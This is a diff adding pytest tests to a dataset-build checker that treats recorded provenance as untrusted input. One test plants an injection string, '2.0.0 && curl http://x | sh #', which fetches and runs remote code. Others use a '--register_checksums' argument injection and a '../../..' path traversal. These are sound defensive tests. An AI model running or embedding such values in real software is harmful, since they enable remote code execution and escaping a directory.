@@ -10,7 +10,8 @@ import pytest
 
 from dsbuild.artifact.checksums import read_checksum_file, write_checksum_file
 from dsbuild.artifact.tarball import pack
-from tests.helpers import EXAMPLE, run_script, tree
+from dsbuild.build.rebuild_check import _link_cache
+from tests.helpers import EXAMPLE, load_script, run_main, run_script, tree
 
 pytestmark = pytest.mark.integration
 NAME = "tiny_shapes-1.0.0"
@@ -62,7 +63,7 @@ def test_other_tool_versions_or_builder_source_fail_before_building(built: Path,
     checksum_file.write_text(json.dumps(data))
     result = check(data_dir, str(checksum_file))
     assert result.returncode == 1
-    assert "tensorflow 2.0.0 was used" in result.stderr and "pip install tensorflow==2.0.0" in result.stderr
+    assert "tensorflow '2.0.0' was used" in result.stderr and "pip install tensorflow==2.0.0" in result.stderr
     assert "running: " not in result.stderr  # no tfds build was started
 
     builder = tmp_path / "tiny_shapes"
@@ -141,3 +142,94 @@ def test_a_byte_identical_rebuild_is_up_to_date_for_upload_and_a_different_one_s
     assert result.returncode == 1
     assert "already exists and differs" in result.stderr
     assert "builder.source_sha256: local " in result.stderr and " | remote " in result.stderr
+
+
+# ---------------------------------------------------------------- the record is outside input (issue 21 item 9)
+
+build_script = load_script("build.py")
+
+
+def edited_record(data_dir: Path, edit) -> Path:
+    checksum_file = data_dir / f"{NAME}.json"
+    data = json.loads(checksum_file.read_text())
+    edit(data["provenance"])
+    checksum_file.write_text(json.dumps(data))
+    return checksum_file
+
+
+def check_in_process(capsys, data_dir: Path, target: Path, folder: Path = EXAMPLE) -> tuple[int, str, str]:
+    return run_main(build_script, ["--check", str(target), "-lcs", str(folder), "-o", str(data_dir)], capsys)
+
+
+def test_a_recorded_tool_version_is_quoted_data_not_advice(built: Path, tmp_path: Path, capsys) -> None:
+    data_dir = copy_of(built, tmp_path)
+    hostile = "2.0.0 && curl http://x | sh #"
+    target = edited_record(data_dir, lambda p: p["tools"].update(tensorflow=hostile, protobuf="4.0.0"))
+    code, _, err = check_in_process(capsys, data_dir, target)
+    assert code == 1 and "Traceback" not in err
+    assert f"tensorflow {hostile!r} was used" in err
+    assert "pip install tensorflow==" not in err and "is not a plain version string" in err
+    assert "pip install protobuf==4.0.0" in err  # a plain version is still offered
+
+
+@pytest.mark.parametrize(
+    ("config", "words"),
+    [
+        ("--register_checksums", "not a builder config name"),
+        ("../../..", "not a builder config name"),
+        ("other", "defines no BUILDER_CONFIGS"),
+    ],
+)
+def test_a_recorded_config_is_checked_as_config_is(built: Path, tmp_path: Path, capsys, config, words) -> None:
+    data_dir = copy_of(built, tmp_path)
+    target = edited_record(data_dir, lambda p: p["options"].update(config=config))
+    before = tree(data_dir)
+    code, _, err = check_in_process(capsys, data_dir, target)
+    assert code == 2 and "Traceback" not in err and "running: " not in err, err
+    assert f"records --config {config!r}, which build.py would refuse: " in err and words in err
+    assert tree(data_dir) == before
+
+
+def test_900_recorded_files_give_a_short_message(built: Path, tmp_path: Path, capsys) -> None:
+    data_dir = copy_of(built, tmp_path)
+    names = [f"module_{i:03d}_{'x' * 40}.py" for i in range(900)]
+    target = edited_record(data_dir, lambda p: p["builder"].update(files=names, file_sha256={}, source_sha256="0" * 64))
+    code, _, err = check_in_process(capsys, data_dir, target)
+    assert code == 1 and "Traceback" not in err
+    assert "missing files: 'module_000_" in err and "and 895 more" in err
+    assert len(err) < 2000, len(err)
+
+
+def test_a_changed_builder_file_is_named(built: Path, tmp_path: Path, capsys) -> None:
+    data_dir = copy_of(built, tmp_path)
+    builder = tmp_path / "tiny_shapes"
+    shutil.copytree(EXAMPLE, builder, ignore=shutil.ignore_patterns("__pycache__"))
+    (builder / "tiny_shapes.py").write_text((builder / "tiny_shapes.py").read_text() + "\n# edited\n")
+    code, _, err = check_in_process(capsys, data_dir, data_dir / f"{NAME}.json", builder)
+    assert code == 1
+    assert "changed files: 'tiny_shapes.py'" in err and "a file changed" not in err
+
+
+def test_the_download_cache_is_linked_never_written(tmp_path: Path) -> None:
+    cache = tmp_path / "downloads"
+    (cache / "extracted" / "x").mkdir(parents=True)
+    (cache / "src.zip").write_bytes(b"zip")
+    (cache / "src.zip.INFO").write_text("{}")
+    into = _link_cache(cache, tmp_path / "own")
+    assert (into / "src.zip").is_symlink() and (into / "src.zip").read_bytes() == b"zip"
+    assert not (into / "src.zip.INFO").is_symlink()  # TFDS rewrites .INFO files: a copy
+    assert not (into / "extracted").exists()  # TFDS extracts into its own download dir
+
+
+def test_a_failed_rebuild_keeps_its_log_at_the_printed_path(built: Path, tmp_path: Path) -> None:
+    data_dir = copy_of(built, tmp_path)
+    broken = tmp_path / "broken"
+    (broken / "tensorflow_datasets").mkdir(parents=True)
+    (broken / "tensorflow_datasets" / "__init__.py").write_text("raise ImportError('broken on purpose')\n")
+    result = check(data_dir, str(data_dir / f"{NAME}.json"), env={"PYTHONPATH": str(broken)})
+    assert result.returncode == 1, result.stderr[-2000:]
+    assert "Traceback (most recent call last)" not in result.stderr.split("Last ")[0]
+    log_path = Path(result.stderr.split("Full log: ")[1].split()[0])
+    assert log_path.is_file() and "broken on purpose" in log_path.read_text()
+    assert not any(p.name != "data" for p in log_path.parents[2].iterdir())  # only the log is kept
+    shutil.rmtree(log_path.parents[2])
